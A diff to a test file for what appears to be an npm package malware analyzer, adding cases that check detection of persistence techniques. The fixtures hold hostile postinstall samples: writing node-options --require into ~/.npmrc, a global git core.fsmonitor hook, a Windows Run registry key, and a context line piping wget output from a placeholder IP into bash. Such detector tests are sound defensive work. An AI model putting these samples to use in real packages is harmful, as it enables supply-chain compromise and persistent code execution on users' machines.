@@ -1634,3 +1634,33 @@ new Map([['k', 'wget -qO- http://203.0.113.13/y | bash']]).forEach((cmd) => exec
     ]);
   });
 });
+
+describe('settings that make every later npm, yarn or git run start code', () => {
+  it("node-options --require appended to the user's .npmrc, the module written beside it", () => {
+    const r = analyzeSource({
+      'package.json': pkg({ scripts: { postinstall: 'node index.js' } }),
+      'index.js': `const fs = require('fs'); const os = require('os'); const path = require('path');
+fs.appendFileSync(path.join(os.homedir(), '.npmrc'), '\\nnode-options=--require /tmp/.npm-hook.js\\n');`,
+    });
+    expect(r.evidence.find((f) => f.rule === 'js.write-persistence')?.message).toMatch(/node-options/);
+  });
+  it('git core.fsmonitor set globally, and a Run key added with the arguments sliced from a list', () => {
+    const r = analyzeSource({
+      'package.json': pkg({ scripts: { postinstall: 'node index.js' } }),
+      'index.js': `const cp = require('child_process');
+cp.execSync('git config --global core.fsmonitor /tmp/.fsm');
+const cmd = ['reg', 'add', 'HKCU\\\\Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run', '/v', 'Updater', '/d', 'C:\\\\u.exe', '/f'];
+cp.spawnSync(cmd[0], cmd.slice(1));`,
+    });
+    expect(r.evidence.filter((f) => f.rule === 'script.persistence').map((f) => f.line)).toEqual([2, 4]);
+  });
+  it('a project .yarnrc.yml pinning its own yarn release, and a registry token line, are not persistence', () => {
+    const r = analyzeSource({
+      'package.json': pkg({ bin: { init: 'index.js' } }),
+      'index.js': `const fs = require('fs');
+fs.writeFileSync('.yarnrc.yml', 'nodeLinker: node-modules\\nyarnPath: .yarn/releases/yarn-4.5.0.cjs\\n');
+fs.appendFileSync('.npmrc', '//registry.example.com/:_authToken=\${NPM_TOKEN}\\n');`,
+    });
+    expect(r.evidence.map((f) => f.rule)).not.toContain('js.write-persistence');
+  });
+});
